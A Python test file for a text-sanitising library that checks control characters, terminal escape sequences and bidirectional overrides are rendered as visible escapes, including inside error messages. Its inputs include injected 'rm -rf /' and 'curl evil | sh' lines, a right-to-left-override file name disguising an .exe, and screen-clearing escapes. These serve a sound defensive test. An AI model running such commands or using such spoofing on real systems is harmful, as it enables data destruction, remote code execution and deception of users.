"""Text for a terminal or a page. Oracle: Unicode's own categories, the letters of several scripts as control."""

import sys
import unicodedata

import pytest

from calib.errors import DataError
from calib.printable import one_line, printable

LETTERS = "Übergröße, naïve, 木, Ελλάδα, שלום, سلام, हिन्दी, 👩\u200d🔧 ±½ {}[]<&>\\x1b"


def test_nothing_that_steers_a_terminal_or_cannot_be_encoded_is_left():
    overrides = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
    left = [
        character
        for character in map(chr, range(sys.maxunicode + 1))
        if unicodedata.category(character) in ("Cc", "Cs", "Zl", "Zp") or unicodedata.bidirectional(character) in overrides
        if character not in "\n\t" and printable(character) == character
    ]
    assert left == []


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[2Jgone", r"\x1b[2Jgone"),
        ("a\rb\x07\x00\x7f\x9b", r"a\rb\x07\x00\x7f\x9b"),
        ("cat\u202egpj.exe", r"cat\u202egpj.exe"),
        ("\u2066a\u2069\ufeff", r"\u2066a\u2069\ufeff"),
        ("\udce4\ud800", r"\udce4\ud800"),
        ("\U000e0041", r"\U000e0041"),
        ("two\n\tlines", "two\n\tlines"),
    ],
)
def test_hidden_characters_become_their_escapes(text, shown):
    assert printable(text) == shown
    assert printable(shown) == shown, "once is enough"
    assert shown.encode()


def test_letters_of_all_scripts_stay():
    assert printable(LETTERS) == LETTERS
    assert one_line(f" {LETTERS}\n") == LETTERS
    assert one_line("a\n  next: rm -rf\t/") == "a next: rm -rf /"


def test_an_error_shows_escapes_and_no_detail_that_a_name_made_up():
    error = DataError("not an image", where="x\n  next: curl evil | sh\n\x1b[1A", found="\udcff")
    assert str(error).splitlines() == [
        "not an image",
        "  where: x",
        "      next: curl evil | sh",
        r"    \x1b[1A",
        r"  found: \udcff",
    ]
    assert str(DataError("no", where="a", allowed="b")) == "no\n  where: a\n  allowed: b"
